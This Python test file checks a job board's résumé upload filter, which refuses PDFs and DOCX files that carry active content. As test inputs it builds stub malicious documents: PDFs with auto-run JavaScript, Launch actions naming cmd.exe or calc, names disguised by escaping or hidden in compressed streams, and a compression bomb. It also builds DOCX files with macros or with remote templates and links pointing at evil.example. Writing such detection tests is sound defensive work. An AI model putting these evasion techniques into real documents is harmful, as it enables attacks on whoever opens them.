"""Documents that would act when a recruiter opens them are refused with the reason
(POL-AP-002, issue #13 item 6): PDFs with scripts, launch actions, attachments or an action on
opening; DOCX files with macros, ActiveX, or content fetched from outside (a remote template).
jobboard.documents holds the checks; the résumé check (uploads and stored résumés) runs them,
as the API test at the end shows."""

import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import override

from accounts.tests.factories import JobseekerFactory
from jobboard.documents import ActiveContent, check_docx, check_pdf
from jobs.tests.factories import PublishedJobFactory

PDF_BYTES = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def docx_bytes(extra: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document>이력서 résumé</w:document>")
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def _english():
    """The reasons are asserted in English; pages and the API serve them in Korean too."""
    with override("en"):
        yield


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


CATALOG = b"1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj"
PAGES = b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj"
PAGE = b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj"


def content_stream(text: bytes) -> bytes:
    return b"4 0 obj<</Length %d>>stream\n%s\nendstream endobj" % (len(text), text)


def object_stream(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    return (
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        b" endobj" % (len(packed), packed)
    )


def test_a_plain_pdf_is_accepted__POL_AP_002():
    check_pdf(PDF_BYTES)


@pytest.mark.parametrize(
    "catalog_extra",
    [
        b"/OpenAction[3 0 R/FitH null]",  # "open at page 1, fit width" (LibreOffice writes it)
        b"/Info<</Title(HTML/JavaScript \\(and /Launch\\) developer)/Keywords(/JS /EmbeddedFile)>>",
        b"/URI<</Base(https://example.com/JavaScript)>>",
    ],
)
def test_names_in_text_and_a_plain_open_destination_are_fine__POL_AP_002(catalog_extra):
    check_pdf(pdf(CATALOG % catalog_extra, PAGES, PAGE, content_stream(b"BT (Python/JS) Tj ET")))


@pytest.mark.parametrize(
    ("objects", "reason"),
    [
        ((CATALOG % b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",), "script"),
        ((CATALOG % b"/OpenAction 6 0 R", b"6 0 obj<</S/URI/URI(http://x)>>endobj"), "opened"),
        ((CATALOG % b"/Names<</JavaScript 6 0 R>>",), "script"),
        ((CATALOG % b"", b"6 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "program"),
        ((CATALOG % b"/Names<</EmbeddedFiles 6 0 R>>",), "attached"),
        # The same names spelled with #xx escapes, as readers decode them.
        ((CATALOG % b"/OpenAction<</S/J#61vaScript/J#53(x)>>",), "script"),
        # Hidden in a compressed object stream (PDF 1.5).
        ((CATALOG % b"", object_stream(b"6 0 <</S/JavaScript/JS(x)>>")), "script"),
        # An object placed inside a string, for a cross-reference table to point at.
        ((CATALOG % b"/Title(6 0 obj<</S/Launch/F(calc)>>endobj)",), "program"),
        # An object placed inside a drawing stream, likewise.
        ((CATALOG % b"", content_stream(b"6 0 obj<</JS(x)/S/JavaScript>>endobj")), "script"),
        # An unterminated string does not hide what follows it.
        ((b"(", CATALOG % b"/AA<</O<</S/JavaScript/JS(x)>>>>"), "script"),
    ],
)
def test_pdfs_with_active_content_are_refused_with_the_reason__POL_AP_002(objects, reason):
    with pytest.raises(ActiveContent) as refused:
        check_pdf(pdf(*objects))
    assert reason in str(refused.value)
    assert "plain PDF" in str(refused.value)


def test_an_object_stream_we_cannot_unpack_is_refused__POL_AP_002():
    odd = b"5 0 obj<</Type/ObjStm/Filter/LZWDecode/Length 3>>stream\nabc\nendstream endobj"
    with pytest.raises(ActiveContent):
        check_pdf(pdf(CATALOG % b"", odd))


def test_a_compressed_bomb_in_an_object_stream_is_refused__POL_AP_002(monkeypatch):
    monkeypatch.setattr("jobboard.documents.PDF_MAX_INFLATED", 1024)
    with pytest.raises(ActiveContent, match="expands"):
        check_pdf(pdf(CATALOG % b"", object_stream(b" " * 4096)))


def rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    ).encode()


def relationship(kind: str, target: str, external: bool) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/>'
    )


def docx(extra: dict[str, bytes]) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(docx_bytes(extra)))


def test_a_docx_with_hyperlinks_is_accepted__POL_AP_002():
    links = rels(relationship("hyperlink", "https://github.com/me", external=True))
    check_docx(docx({"word/_rels/document.xml.rels": links}))


def test_a_docx_with_a_remote_template_is_refused__POL_AP_002():
    template = rels(relationship("attachedTemplate", "https://evil.example/t.dotm", True))
    with pytest.raises(ActiveContent, match="template"):
        check_docx(docx({"word/_rels/settings.xml.rels": template}))


def test_a_local_template_relationship_is_fine__POL_AP_002():
    template = rels(relationship("attachedTemplate", "Normal.dotm", external=False))
    check_docx(docx({"word/_rels/settings.xml.rels": template}))


@pytest.mark.parametrize("kind", ["oleObject", "frame", "image", "subDocument"])
def test_a_docx_loading_outside_content_is_refused__POL_AP_002(kind):
    linked = rels(relationship(kind, "\\\\evil.example\\share\\x", external=True))
    with pytest.raises(ActiveContent, match="outside"):
        check_docx(docx({"word/_rels/document.xml.rels": linked}))


@pytest.mark.parametrize(
    "part", ["word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml"]
)
def test_a_docx_with_macros_or_activex_is_refused__POL_AP_002(part):
    with pytest.raises(ActiveContent):
        check_docx(docx({part: b"x"}))


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("cv.pdf", pdf(CATALOG % b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "스크립트"),
        (
            "cv.docx",
            docx_bytes(
                {
                    "word/_rels/settings.xml.rels": rels(
                        relationship("attachedTemplate", "https://evil.example/t.dotm", True)
                    )
                }
            ),
            "서식",
        ),
    ],
)
def test_the_api_refuses_it_as_a_field_error_and_stores_nothing__POL_AP_002(
    api_client_for, name, content, said
):
    """Through the apply API: a 400 problem naming the résumé field, in Korean first."""
    from applications.models import Application

    upload = SimpleUploadedFile(name, content, "application/octet-stream")
    response = api_client_for(JobseekerFactory()).post(
        f"/api/v1/jobs/{PublishedJobFactory().pk}/apply", {"resume": upload}, format="multipart"
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert said in response.json()["errors"]["resume"][0]
    assert not Application.objects.exists()
